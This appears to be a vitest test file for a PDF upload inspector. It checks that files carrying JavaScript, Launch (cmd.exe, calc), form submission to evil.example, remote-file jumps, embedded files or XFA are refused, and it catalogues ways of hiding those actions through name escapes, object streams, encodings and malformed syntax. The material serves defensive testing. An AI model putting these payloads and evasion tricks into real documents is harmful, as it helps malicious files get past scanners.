import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { inflateZlib } from '../../worker/attachments/formats/inflate.ts';
import { inspectFile } from '../../worker/attachments/inspect.ts';
import { Problem } from '../../worker/foundation/problem.ts';
import { deflated, objectStream, pdfOf, plainObjects, streamOf, updated } from './pdf.ts';
import { pictures } from './pictures.ts';

function isTaken(bytes: Uint8Array): boolean {
  try {
    return inspectFile(bytes, 'a.pdf').type === 'application/pdf';
  } catch (problem) {
    if (problem instanceof Problem && problem.code === 'file_type_refused') return false;
    throw problem;
  }
}

/** What a viewer would do without being asked, or with what it would reach beyond the file. */
const actions = {
  script: '<</S/JavaScript/JS(app.alert\\(1\\))>>',
  'a script in a stream': '<</JS 9 0 R/S/JavaScript>>',
  program: '<</S/Launch/F(cmd.exe)>>',
  'program of Windows': '<</Type/Action /S /Launch /Win <</F(cmd.exe)/P(/c calc)>>>>',
  'sent form': '<</S/SubmitForm/F(https://evil.example)>>',
  'read form': '<</S/ImportData/F(x.fdf)>>',
  'another file': '<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>',
  'a file within': '<</S/GoToE/T<</R/C/N(x)>>>>',
  media: '<</S/Rendition/OP 0/R 9 0 R>>',
  film: '<</S/Movie/T(x)>>',
  sound: '<</S/Sound/Sound 9 0 R>>',
  'rich media': '<</S/RichMediaExecute/TA 9 0 R>>',
} as const;

/** Entries of the catalog that carry such things. */
const carried = {
  'scripts by name': '/Names<</JavaScript<</Names[(a)9 0 R]>>>>',
  'files by name': '/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 9 0 R>>>>]>>>>',
  'a form of XML': '/AcroForm<</Fields[]/XFA 9 0 R>>',
} as const;

const letters = (name: string, isEscaped: (letter: string, at: number) => boolean, upper = false) =>
  Array.from(name, (letter, at) => {
    const hex = letter.charCodeAt(0).toString(16);
    return isEscaped(letter, at) ? `#${upper ? hex.toUpperCase() : hex}` : letter;
  }).join('');

const escapable =
  /\/(JavaScript|JS|Launch|SubmitForm|ImportData|GoToR|GoToE|Rendition|Movie|Sound|RichMediaExecute)\b/g;
const respelled = (
  text: string,
  isEscaped: (letter: string, at: number) => boolean,
  upper = false,
) => text.replace(escapable, (_, name: string) => `/${letters(name, isEscaped, upper)}`);

const spellings: Record<string, (text: string) => string> = {
  'as it is': (text) => text,
  'one letter escaped': (text) => respelled(text, (_, at) => at === 1),
  'every letter escaped': (text) => respelled(text, () => true),
  'every second one in capitals': (text) => respelled(text, (_, at) => at % 2 === 0, true),
  'spread over lines': (text) => text.replaceAll('/', '\r\n%c\r/').replaceAll('<<', '<<\f\0'),
};

const bodyOf = (catalog: string, ...more: string[]) => pdfOf([...plainObjects(catalog), ...more]);
const openAction = (action: string) => `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`;

/** Where a viewer finds an action, whatever else the file says. */
const places: Record<string, (action: string) => Uint8Array> = {
  'on opening': (action) => bodyOf(`/OpenAction ${action}`),
  'on an event': (action) => bodyOf(`/AA<</WC ${action}>>`),
  'in an object of its own': (action) => bodyOf('/OpenAction 4 0 R', action),
  'on a link': (action) => bodyOf('', `<</Type/Annot/Subtype/Link/A ${action}>>`),
  'behind another action': (action) =>
    bodyOf('/OpenAction 4 0 R', `<</S/URI/URI(https://a.example)/Next[${action}]>>`),
  'in an update': (action) => updated(bodyOf(''), openAction(action)),
  'in what an update replaced': (action) =>
    updated(bodyOf(`/OpenAction ${action}`), plainObjects()[0] ?? ''),
  'in a stream of objects': (action) => bodyOf('/OpenAction 10 0 R', objectStream([action])),
  'in one that is stored': (action) =>
    bodyOf('', objectStream(['<</A 1>>', action], { pack: (text) => deflated(text, 0) })),
  'in one that is not packed': (action) =>
    bodyOf('', objectStream([action], { keys: '', pack: (text) => text })),
  'in one without a type': (action) => bodyOf('', objectStream([action], { type: '' })),
  'in one with escaped keys': (action) =>
    bodyOf(
      '',
      objectStream([action], { type: '/T#79pe/Obj#53tm', keys: '/F#69lter[/Fl#61teDecode]' }),
    ),
  'in one with comments between': (action) =>
    bodyOf('', objectStream([action], { type: '/A %\n/B', keys: '%c\n/Filter%\n/FlateDecode' })),
  'in one with a predictor': (action) =>
    bodyOf(
      '',
      objectStream([action], { keys: '/Filter/FlateDecode/DecodeParms<</Predictor 12>>' }),
    ),
  'in one packed twice': (action) =>
    bodyOf(
      '',
      objectStream([action], {
        keys: '/Filter[/FlateDecode/FlateDecode]',
        pack: (text) => deflated(deflated(text)),
      }),
    ),
  'in one of hexadecimal digits': (action) =>
    bodyOf(
      '',
      objectStream([action], {
        keys: '/Filter/ASCIIHexDecode',
        pack: (text) => `${Buffer.from(text, 'latin1').toString('hex')}>`,
      }),
    ),
  'within a string of one': (action) =>
    bodyOf('', objectStream([`(   ${action.replaceAll(/[()]/g, '')})`], { shift: 3 })),
  'in one of a file that is encrypted': (action) =>
    pdfOf(
      [
        ...plainObjects(),
        objectStream([action], { pack: (text) => deflated(text.replace(/./g, 'x')) }),
      ],
      '/Encrypt 9 0 R',
    ),
  'in a string': (action) => bodyOf('', `(7 0 obj ${action} endobj)`),
  'in a string of hexadecimal digits': (action) => bodyOf('', `<7 0 obj [${action} ] endobj`),
  'in a comment': (action) => bodyOf('', `1 % 7 0 obj ${action.replaceAll(/[\r\n]/g, ' ')} endobj`),
  'in a stream that is none': (action) => bodyOf('', streamOf('', `\n7 0 obj ${action} endobj\n`)),
  'with its head in another hiding place': (action) =>
    bodyOf('', '( 7 0 obj <</X % )', `(\n ${action} >>)`),
  'behind a word that begins no stream': (action) =>
    bodyOf('', `[<<>>\nstream\n${action}\nendstream]`),
  'behind brackets that do not match': (action) =>
    bodyOf('', `<< [ ] ] [ >>\nstream\n${action}\nendstream`),
  'within a dictionary that an object interrupts': (action) =>
    bodyOf('', `<< /X 8 0 obj << >>\nstream\n${action}\nendstream`),
};

describe.each(Object.entries(spellings))(
  'R85 a PDF is refused, its names written %s',
  (_, spell) => {
    it.each(Object.entries(places))('with an action %s', (_place, put) => {
      for (const [kind, action] of Object.entries(actions))
        expect(isTaken(put(spell(action))), kind).toBe(false);
    });

    it.each(Object.entries(carried))('with %s', (_kind, catalog) => {
      expect(isTaken(bodyOf(spell(catalog)))).toBe(false);
    });
  },
);

/** Where the way it is written is refused, whatever stands there. */
const inDoubt = new Set([
  'in one with a predictor',
  'in one packed twice',
  'in one of hexadecimal digits',
  'within a string of one',
  'in one of a file that is encrypted',
  'behind brackets that do not match',
  'within a dictionary that an object interrupts',
]);

it.each(Object.entries(places).filter(([place]) => !inDoubt.has(place)))(
  'R40 a PDF with a link %s is taken',
  (_, put) => {
    expect(isTaken(put('<</S/URI/URI(https://a.example)>>'))).toBe(true);
  },
);

const link =
  '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://developer.mozilla.org/docs/Web/JavaScript)>>>>';
const noise = (length: number) => {
  let seed = 7;
  return Array.from({ length }, () => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return String.fromCharCode((seed >> 16) & 0xff);
  }).join('');
};

/** What writers of invoices, statements and printouts make. */
const harmless: Record<string, Uint8Array> = {
  'of Chromium': pictures.pdf,
  'with nothing': bodyOf(''),
  'with bookmarks that opens at a page': bodyOf(
    '/OpenAction[3 0 R/FitH 792]/Outlines 4 0 R/PageMode/UseOutlines',
    '<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>',
    '<</Title(JS)/Parent 4 0 R/Dest[3 0 R/XYZ 0 0 0]>>',
  ),
  'that opens with a jump': bodyOf('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/AA<<>>'),
  'with links': bodyOf('', link, '<</S/URI/URI(mailto:a@b.example)>>', '<</S/Named/N/NextPage>>'),
  'with links in a stream of objects': bodyOf('', objectStream([link, '<</S/GoTo/D[3 0 R/Fit]>>'])),
  'that speaks of scripts': bodyOf(
    '',
    '<</Title(HTML/CSS/JavaScript)/Keywords(/Launch /JS \\(/XFA\\))>>',
    '<2F4A617661536372697074>',
    streamOf('', 'BT (HTML/CSS/JavaScript ) Tj ET % /Launch '),
    '% 7 of /JavaScript objects\n[/JavaScripts/Launcher/JSON/EFG]',
  ),
  'with XMP': bodyOf(
    '/Metadata 4 0 R',
    streamOf('/Type/Metadata/Subtype/XML', '<x:xmpmeta><k>/JavaScript </k></x:xmpmeta>'),
  ),
  'with a form to fill in': bodyOf(
    '/AcroForm<</Fields[4 0 R]/NeedAppearances true/DA(/Helv 0 Tf)>>',
    '<</FT/Tx/T(name)/Subtype/Widget/F 4/MK<</BC[0]>>>>',
  ),
  'with pictures and fonts': bodyOf(
    '',
    streamOf('/Type/XObject/Subtype/Image/Filter/DCTDecode', noise(50_000)),
    streamOf('/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 4>>', deflated(noise(9_000))),
    streamOf('/Length1 9/Filter[/ASCII85Decode/FlateDecode]', noise(5_000)),
  ),
  'with full object streams of 200': bodyOf(
    '',
    objectStream(Array.from({ length: 200 }, (_, at) => `<</Type/StructElem/S/P/K ${at}>>`)),
    objectStream(['[1 2 3]', '(a % b)', '/Name', '<AB>', 'null'], {
      keys: '/Filter[/FlateDecode]/Extends 4 0 R',
    }),
  ),
  'with an empty object stream': bodyOf('', objectStream([])),
  'whose lines end as on Windows': pdfOf(
    plainObjects().map((object) => object.replaceAll('\n', '\r\n')),
  ),
  'that was signed and saved again': updated(
    bodyOf(''),
    plainObjects('/Perms<</DocMDP 9 0 R>>')[0] ?? '',
  ),
  'that a bank encrypted': pdfOf(
    [
      ...plainObjects(),
      streamOf('/Filter/FlateDecode', noise(999)),
      '<</Filter/Standard/V 2/R 3/P -44>>',
    ],
    '/Encrypt 5 0 R/ID[<AB><AB>]',
  ),
};

describe('R40 a PDF is taken', () => {
  it.each(Object.entries(harmless))('%s', (_, file) => {
    expect(isTaken(file)).toBe(true);
  });
});

describe('R91 a PDF is read up to', () => {
  const withObject = (object: string) => pdfOf([...plainObjects(), object]);

  it.each<[string, string, string]>([
    [
      'so many brackets within brackets',
      '['.repeat(500) + ']'.repeat(500),
      '['.repeat(501) + ']'.repeat(501),
    ],
    [
      'so many entries of a dictionary',
      `<<${'/A 1 '.repeat(90_000)}>>`,
      `<<${'/A 1 '.repeat(110_000)}>>`,
    ],
    ['so many tokens', `[${'1 '.repeat(1_900_000)}]`, `[${'1 '.repeat(2_000_000)}]`],
  ])('%s', (_, most, more) => {
    expect(isTaken(withObject(most))).toBe(true);
    expect(isTaken(withObject(more))).toBe(false);
  });

  it('a name of any length, and undoes the escapes of a short one alone', () => {
    expect(isTaken(withObject(`/${'#41'.repeat(1_000_000)}`))).toBe(true);
    const every = Array.from('RichMediaExecute', (one) => `#${one.charCodeAt(0).toString(16)}`);
    expect(isTaken(withObject(`<</S/${every.join('')}>>`))).toBe(false);
  });
});

describe('R91 streams of objects unfold to a bounded size', () => {
  const zeros = (megabytes: number) => ' '.repeat(megabytes * 1024 * 1024);

  it('all of a file together', () => {
    const three = objectStream([zeros(3)]);
    expect(isTaken(bodyOf('', three, three))).toBe(true);
    expect(isTaken(bodyOf('', three, three, three))).toBe(false);
    expect(isTaken(bodyOf('', objectStream([zeros(9)])))).toBe(false);
  });

  it('and there are not too many', () => {
    const many = (count: number) =>
      bodyOf('', ...Array.from({ length: count }, () => objectStream([])));
    expect(isTaken(many(2_000))).toBe(true);
    expect(isTaken(many(2_100))).toBe(false);
  });

  it('what is cut or broken is refused', () => {
    for (const change of [
      (text: string) => text.slice(0, -9),
      (text: string) => `\u0000${text}`,
      (text: string) => text.replace(/^../s, '\u0078\u00bb'),
    ])
      expect(
        isTaken(bodyOf('', objectStream(['<<>>'], { pack: (text) => change(deflated(text)) }))),
      ).toBe(false);
  });
});

describe('inflating', () => {
  const samples = {
    nothing: '',
    text: 'یک متن '.repeat(50),
    'one letter': 'a'.repeat(70_000),
    noise: noise(70_000),
    numbers: Array.from({ length: 5_000 }, (_, at) => `${at} 0 R`).join(' '),
  };

  it.each(Object.entries(samples))('gives back %s, however it was packed', (_, text) => {
    const bytes = new TextEncoder().encode(text);
    for (const level of [0, 1, 6, 9])
      for (const strategy of [0, 1, 2, 3, 4]) {
        const packed = deflateSync(bytes, { level, strategy });
        expect(Buffer.from(inflateZlib(packed, bytes.length) ?? [1, 2])).toEqual(
          Buffer.from(bytes),
        );
        if (bytes.length > 0) expect(inflateZlib(packed, bytes.length - 1)).toBeNull();
      }
  });
});
